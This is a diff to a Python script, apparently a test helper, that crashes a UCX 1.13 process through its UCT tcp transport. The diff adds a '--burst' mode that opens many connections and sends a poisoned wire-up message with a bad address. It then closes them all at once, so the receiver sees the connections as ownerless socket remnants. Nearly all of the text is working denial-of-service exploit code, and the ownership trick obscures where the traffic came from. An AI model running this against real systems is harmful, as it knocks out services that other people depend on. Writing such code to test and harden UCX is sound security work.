@@ -1,7 +1,11 @@
 #!/usr/bin/env python3
 """Crash a UCX 1.13 process through its UCT tcp transport (test helper).
 
-Usage: python3 ucx_handshake_attack.py HOST PORT
+Usage: python3 ucx_handshake_attack.py HOST PORT [--burst N]
+
+--burst N: N connections, each writing the whole attack at once and closed at
+once (with a short TCP_LINGER2), so that the receiver meets them as remnants of
+closed sockets, which the kernel reports without an owner (uid 0).
 
 HOST:PORT must be the listening port of a UCX "tcp" interface (UCT tcp iface),
 not a sockaddr/CM listener.  The script acts like a UCX tcp endpoint opening a
@@ -99,9 +103,31 @@ def peer_closed(sock, wait):
         return True
 
 
+def burst(host, port, n):
+    """N connections that each write magic, CONN_REQ and the poisoned wire-up in one go, then
+    all closed at once: by the time the receiver accepts the later ones, their senders' sockets
+    are FIN_WAIT2 remnants (TCP_LINGER2 keeps them briefly) that name no owner."""
+    socks = []
+    try:
+        for _ in range(n):
+            sock = socket.create_connection((host, port), timeout=5)
+            sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+            sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_LINGER2, 5)
+            sock.sendall(struct.pack("<Q", TCP_MAGIC) + conn_req(sock) + wireup_with_bad_address())
+            socks.append(sock)
+    except OSError as exc:
+        print("error after %d connections: %s" % (len(socks), exc))
+    for sock in socks:
+        sock.close()
+    print("sent %d" % len(socks))
+    return 0 if socks else 1
+
+
 def main(argv):
+    if len(argv) == 5 and argv[3] == "--burst":
+        return burst(argv[1], int(argv[2]), int(argv[4]))
     if len(argv) != 3:
-        sys.stderr.write("usage: %s HOST PORT\n" % argv[0])
+        sys.stderr.write("usage: %s HOST PORT [--burst N]\n" % argv[0])
         return 2
     host, port = argv[1], int(argv[2])
     try:
